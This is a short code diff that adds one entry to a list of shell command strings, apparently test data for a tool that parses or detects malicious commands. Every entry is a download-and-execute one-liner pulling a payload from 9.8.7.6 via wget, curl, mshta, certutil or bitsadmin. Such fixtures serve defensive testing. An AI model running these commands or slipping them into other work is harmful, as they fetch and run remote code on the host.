@@ -14,6 +14,7 @@ URL = "url http://9.8.7.6/x"
     [
         "cd /tmp;wget http://9.8.7.6/x;chmod 777 x;sh x",
         "mshta http://9.8.7.6/x&&exit",
+        "curl http://9.8.7.6/x[1]&&sh x",
         "curl 9.8.7.6/x;chmod +x x;./x",
         "cmd /c certutil -urlcache -split -f http://9.8.7.6/x %TEMP%\\a.exe&&%TEMP%\\a.exe",
         "bitsadmin /transfer job /priority high http://9.8.7.6/x&start a.exe",
